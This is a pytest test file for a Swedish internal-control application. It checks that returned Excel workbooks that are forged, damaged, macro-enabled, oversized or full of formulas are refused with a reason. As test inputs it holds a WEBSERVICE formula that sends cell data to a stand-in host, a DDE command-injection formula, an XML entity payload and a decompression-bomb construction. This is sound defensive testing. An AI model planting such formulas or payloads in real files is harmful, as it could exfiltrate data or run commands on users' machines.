"""Workbooks that are not what they say: forged, damaged, made to fill the memory. Each is refused with the reason."""

import re
import shutil
import subprocess
import zipfile

import openpyxl
import pytest
from django.core import signing
from django.utils import timezone

from internkoll.followup.models import Result, Round
from internkoll.followup.services import open_round
from internkoll.imports.workbooks.contents import Token, signed, token_in
from internkoll.imports.workbooks.judging import JudgedBook
from internkoll.imports.workbooks.layout import FORMAT, HIDDEN_SHEET, ID, MARKS, MOST_ROWS, ROWS_SHEET
from internkoll.imports.workbooks.models import ReturnedWorkbook
from internkoll.imports.workbooks.opening import Unreadable, open_returned
from internkoll.imports.workbooks.returned import ReturnedBook
from internkoll.imports.workbooks.services import BookRefused, bring_in_rows, keep_returned
from internkoll.plan.models import Check
from internkoll.plan.services import adopt_plan, propose_plan
from tests.cast import ROUNDS, YEAR
from tests.filled import keep, read, sent
from tests.imports.build import as_docx, paragraph
from tests.imports.packing import OLE, package, parts_of, replaced

GOOD = {"Bedömning": "Utan anmärkning", "Resultat": "Granskat i Excel."}


def keep_book(cast, round_, data):
    return keep(round_, cast.coordinator, data)


def with_token(book, token):
    book.book[HIDDEN_SHEET]["B1"].value = token
    return book.data


def test_a_book_of_another_period_says_which(cast, round_):
    other = Round.objects.select_related("unit").get(unit=cast.board, label=ROUNDS[0])
    with pytest.raises(BookRefused, match="Boken hör till T1 2024 i Barnnämnden, och här läses T2 2024"):
        keep_book(cast, round_, sent(other, cast.coordinator))


def test_a_book_of_another_municipality_is_refused(cast, round_):
    other = Round.objects.select_related("unit").get(unit=cast.strangers_board, label=ROUNDS[1])
    with pytest.raises(BookRefused, match="Boken hör till T2 2024 i Grannämnden"):
        keep_book(cast, round_, sent(other, cast.stranger))


def test_a_book_from_another_installation_is_refused(cast, round_, book, settings):
    settings.SECRET_KEY = "en helt annan nyckel"
    with pytest.raises(BookRefused, match="kommer inte härifrån"):
        keep_book(cast, round_, book.data)


@pytest.mark.parametrize("forged", ["", "x", "1", "=1+1", "a:b:c"])
def test_a_book_that_says_something_else_of_itself_is_refused(cast, round_, book, forged):
    with pytest.raises((BookRefused, Unreadable), match=r"härifrån|inte en bok från Internkoll"):
        keep_book(cast, round_, with_token(book, forged))


def test_what_is_signed_for_something_else_is_no_token():
    assert token_in(signing.Signer(salt="internkoll.workbooks").sign_object([1, 2])) is None
    assert token_in(signing.Signer(salt="annat").sign_object([1, 2, "a", "b", "c", "2024-01-01"])) is None


def test_a_book_of_an_older_layout_is_refused(cast, round_, book):
    older = signed(Token(FORMAT + 1, round_.pk, "Barnnämnden", "T2 2024", "", "2024-08-01"))
    with pytest.raises(BookRefused, match="annan version av Internkoll"):
        keep_book(cast, round_, with_token(book, older))


def test_ids_of_other_boards_checks_do_nothing(cast, round_, check, book):
    theirs = Check.objects.filter(control__plan__unit=cast.strangers_board).first()
    book.fill(check.pk, **GOOD).cell(check.pk, ID).value = str(theirs.pk)
    returned = keep_book(cast, round_, book.data)
    (row,) = [row for row in JudgedBook(returned).rows if row.key == theirs.pk]
    assert (row.state, row.check) == ("gone", None)
    before = list(Result.objects.order_by("pk").values())
    with pytest.raises(BookRefused) as refused:
        bring_in_rows(by=cast.coordinator, book=returned, chosen={theirs.pk: 0, check.pk: 0}, seen=0, at=timezone.now())
    assert set(refused.value.faults) == {theirs.pk, check.pk}
    assert list(Result.objects.order_by("pk").values()) == before


def test_a_check_that_is_not_in_the_round_is_not_reported_in_it(cast, round_, check, book):
    returned = keep_book(cast, round_, book.fill(check.pk, **GOOD).data)
    Check.objects.filter(pk=check.pk).update(recurrence="FREQ=YEARLY")
    assert {row.state for row in JudgedBook(returned).rows if row.key == check.pk} == {"gone"}


@pytest.mark.parametrize("forged", ["-1", "0", "1e9", "²", "9" * 40, "None", "1;2", "=1", "Å" * 5_000])
def test_what_is_no_id_is_told_as_a_row_that_was_added(cast, round_, check, book, forged):
    cell = book.fill(check.pk, **GOOD).cell(check.pk, ID)
    cell.value, cell.data_type = forged, "s"
    returned = keep_book(cast, round_, book.data)
    assert check.pk not in {row["id"] for row in returned.rows}
    assert [extra["line"] for extra in returned.extras] == [6] or forged == "0"
    assert {row.state for row in JudgedBook(returned).rows if row.key == 0} <= {"gone"}


def without(book, sheet):
    del book.book[sheet]
    return book.data


def without_column(book, heading):
    book.sheet.delete_cols(book.headings.index(heading) + 1)
    return book.data


def with_column_twice(book, heading):
    book.sheet.cell(1, len(book.headings) + 1).value = heading
    return book.data


@pytest.mark.parametrize(
    ("spoil", "reason"),
    [
        (lambda book: without(book, HIDDEN_SHEET), "dolda blad tagits bort"),
        (lambda book: without(book, ROWS_SHEET), "dolda kolumner är borttagna"),
        (lambda book: without_column(book, ID), "dolda kolumner är borttagna"),
        (lambda book: without_column(book, MARKS), "dolda kolumner är borttagna"),
        (lambda book: without_column(book, "Bedömning"), "Kolumnen ”Bedömning” saknas"),
        (lambda book: with_column_twice(book, "Resultat"), "Kolumnen ”Resultat” finns flera gånger"),
        (lambda book: book.data[:6_000], "skadad"),
        (lambda book: b"", "tom"),
        (lambda book: b"PK\x03\x04" + bytes(200), "skadad"),
        (lambda book: OLE + "EncryptedPackage".encode("utf-16-le"), "lösenord"),
        (lambda book: OLE + "Workbook".encode("utf-16-le"), r"gamla Excelformatet \(\.xls\)"),
        (lambda book: as_docx([paragraph("Svar")]), "ingen Excelbok"),
        (lambda book: with_macros(book.data), "makron"),
        (lambda book: package({**parts_of(book.data), "xl/vbaProject.bin": b"x"}), "makron"),
        (lambda book: replaced(book.data, "xl/workbook.xml", ENTITIES), "säkerhetsskäl"),
        (lambda book: replaced(book.sent, "xl/sharedStrings.xml", bytes(200 << 20)), "mer än vad som"),
    ],
)  # fmt: skip
def test_what_can_not_be_read_is_refused_with_the_reason(book, spoil, reason):
    """In the child process, as a stranger's file is."""
    with pytest.raises(Unreadable, match=reason):
        open_returned(spoil(book), "svar.xlsx", year=YEAR)


ENTITIES = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaa">]><workbook>&a;</workbook>'


def with_macros(data):
    parts = parts_of(data)
    types = parts["[Content_Types].xml"].decode()
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert plain in types
    types = types.replace(plain, "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
    return package({**parts, "[Content_Types].xml": types.encode()})


def test_a_sound_book_is_read_by_the_child_process_with_its_days_and_its_letters(cast, round_, check, book):
    book.fill(check.pk, **GOOD | {"Resultat": "Åtta ärenden – ”ok”\nRad två"})
    told = open_returned(book.data, "svar åäö.xlsx", year=YEAR)
    assert {line.id: line.cells["text"] for line in told.lines}[check.pk] == "Åtta ärenden – ”ok”\nRad två"
    assert told == read(book.data)


def test_a_book_saved_as_strict_open_xml_is_read_too(book, check):
    data = book.fill(check.pk, **GOOD).data
    plain = "http://schemas.openxmlformats.org/"
    names = {
        f"{plain}officeDocument/2006/relationships": "http://purl.oclc.org/ooxml/officeDocument/relationships",
        f"{plain}spreadsheetml/2006/main": "http://purl.oclc.org/ooxml/spreadsheetml/main",
    }
    parts = parts_of(data)
    for name, content in parts.items():
        for usual, strict in names.items():
            content = content.replace(usual.encode(), strict.encode())
        parts[name] = content
    assert b"purl.oclc.org" in parts["xl/workbook.xml"]
    assert open_returned(package(parts), "svar.xlsx", year=YEAR) == read(data)


def tall(book, count, row):
    """The book with that many rows below its own; `row` is the XML of one, with its number left open."""
    sheet = "xl/worksheets/sheet2.xml"
    below = "".join(row.format(number) for number in range(10, count + 10))
    return replaced(
        book.data, sheet, parts_of(book.data)[sheet].replace(b"</sheetData>", f"{below}</sheetData>".encode())
    )


FILLED = '<row r="{0}"><c r="A{0}" t="inlineStr"><is><t>x</t></is></c></row>'


@pytest.mark.parametrize("count", [MOST_ROWS, 100_000, 1_000_000])
def test_a_book_with_more_rows_than_any_plan_is_refused(book, count):
    with pytest.raises(Unreadable, match=r"fler än|mer än vad som"):
        open_returned(tall(book, count, FILLED), "svar.xlsx", year=YEAR)


def test_a_million_rows_with_nothing_in_them_are_passed_by(book):
    assert len(open_returned(tall(book, 1_000_000, '<row r="{0}"/>'), "svar.xlsx", year=YEAR).lines) == 6


def test_a_cell_that_stands_far_out_costs_nothing(cast, round_, check, book):
    book.fill(check.pk, **GOOD)
    book.sheet["XFD1048576"].value = "x"
    told = open_returned(book.data, "svar.xlsx", year=YEAR)
    assert len(told.lines) == 6


def test_formulas_links_and_errors_are_never_values(cast, round_, check, book):
    for heading, value in (
        ("Resultat", '=WEBSERVICE("http://x.example/"&A2)'),
        ("Åtgärd", '=HYPERLINK("http://x.example","Klicka")'),
        ("Ansvarig för åtgärden", "=cmd|'/c calc'!A1"),
        ("Åtgärden klar senast", "=TODAY()"),
    ):
        book.cell(check.pk, heading).value = value
    (row,) = [row for row in JudgedBook(keep_book(cast, round_, book.data)).rows if row.key == check.pk]
    assert row.state == "refused"
    assert [cell.told for cell in row.cells if cell.key in row.line.faults] == ["", "", "", ""]
    assert set(row.line.faults.values()) == {"Cellen har en formel. Skriv texten själv i stället."}


def test_a_text_of_any_length_is_cut_and_refused(book, check):
    data, sheet = book.fill(check.pk, **GOOD | {"Resultat": "LONG"}).data, "xl/worksheets/sheet2.xml"
    told = read(replaced(data, sheet, parts_of(data)[sheet].replace(b"LONG", "å".encode() * 60_000)))
    (line,) = [line for line in told.lines if line.id == check.pk]
    assert len(line.cells["text"]) == 50_000
    assert "längre än 50000 tecken" in line.faults["text"]


def test_what_the_plan_says_does_not_count_towards_the_limit_of_the_answers(book, check, monkeypatch):
    monkeypatch.setattr("internkoll.imports.workbooks.sheet_rows._MOST_SIGNS", 300)
    assert sum(len(str(cell.value or "")) for row in book.sheet.iter_rows(min_row=2, max_col=7) for cell in row) > 600
    assert len(read(book.data).lines) == 6
    with pytest.raises(Unreadable, match="mer än vad som"):
        read(book.fill(check.pk, **GOOD | {"Resultat": "x" * 300}).data)


def test_a_book_that_only_has_a_token_is_refused(cast, round_):
    token = signed(Token(FORMAT, round_.pk, "Barnnämnden", "T2 2024", "", "2024-08-01"))
    with pytest.raises(BookRefused, match="inga rader kvar"):
        keep_returned(
            by=cast.coordinator, round_=round_, book=ReturnedBook(token=token), name="x.xlsx", at=timezone.now()
        )
    assert not ReturnedWorkbook.objects.exists()


def test_a_round_that_is_not_open_yet_takes_no_book(cast, book):
    coming = open_round(by=None, board=cast.board, label="T3 2099", year=2099)
    with pytest.raises(BookRefused, match="öppnar"):
        keep_book(cast, coming, book.data)


def test_a_version_that_the_board_has_adopted_meanwhile_keeps_its_rows(cast, round_, check, book):
    """The plan's rows keep their ids when a decided plan takes the place of a draft."""
    returned = keep_book(cast, round_, book.fill(check.pk, **GOOD).data)
    plan = propose_plan(by=None, plan=check.control.plan, risk_analysis_on=timezone.localdate())
    adopt_plan(by=None, plan=plan, adopted_on=timezone.localdate(), paragraph="§ 1", reference="BN 1")
    assert {row.state for row in JudgedBook(returned).rows if row.key == check.pk} == {"new"}


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
@pytest.mark.slow
def test_a_book_that_libreoffice_has_saved_is_read_all_the_same(cast, round_, check, book, tmp_path):
    book.fill(check.pk, **GOOD | {"Resultat": "Rad ett\n\nRad två, 100 %"}, Åtgärden_klar_senast="31/12 2024")
    (tmp_path / "svar.xlsx").write_bytes(book.data)
    done = subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--convert-to",
            "xlsx:Calc MS Excel 2007 XML",
            "--outdir",
            tmp_path / "ut",
            tmp_path / "svar.xlsx",
        ],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    saved = tmp_path / "ut" / "svar.xlsx"
    if re.search("could not be loaded", done.stderr + done.stdout):
        pytest.skip("LibreOffice's Calc is not installed")
    assert "LibreOffice" in zipfile.ZipFile(saved).read("docProps/app.xml").decode()
    told = open_returned(saved.read_bytes(), "svar.xlsx", year=YEAR)
    assert told == read(book.data)
    rows = {row.key: row for row in JudgedBook(keep_book(cast, round_, saved.read_bytes())).rows}
    assert {key: row.state for key, row in rows.items() if row.is_to_decide} == {check.pk: "refused"}
    assert rows[check.pk].faults == {"action_text": "Skriv vad som ska göras."}
    assert rows[check.pk].report.text == "Rad ett\n\nRad två, 100 %"
    assert openpyxl.load_workbook(saved)[ROWS_SHEET].protection.sheet
